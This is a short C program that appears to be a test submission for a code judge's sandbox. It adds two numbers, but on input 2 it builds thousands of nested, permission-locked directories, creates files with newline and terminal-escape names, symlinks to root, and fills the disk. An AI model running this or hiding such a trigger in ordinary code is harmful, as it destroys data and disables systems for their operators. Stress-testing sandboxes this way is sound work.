/* Folders in folders, deeper than a path may be long, closed to everybody; then a full disk. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char block[65536];

int main(void)
{
	char name[251];
	long a, b;

	if (scanf("%ld %ld", &a, &b) != 2)
		return 1;
	if (a == 2) {
		int fd = open("/tmp/rest", O_WRONLY | O_CREAT, 0600);

		memset(name, 'd', 250);
		name[250] = 0;
		for (int i = 0; i < 3000; i++) {
			if (mkdir(name, 0700) || chdir(name))
				break;
			chmod("..", 0);
			close(open("x\n\x1b[2J", O_WRONLY | O_CREAT, 0));
			symlink("/", "link");
			mkfifo("fifo", 0);
		}
		while (write(fd, block, sizeof(block)) > 0)
			;
		for (int i = 0; i < 1000 && write(open("more", O_WRONLY | O_CREAT | O_APPEND, 0600),
					     block, sizeof(block)) > 0; i++)
			;
		perror("write");
		return 1;
	}
	printf("%ld\n", a + b);
}
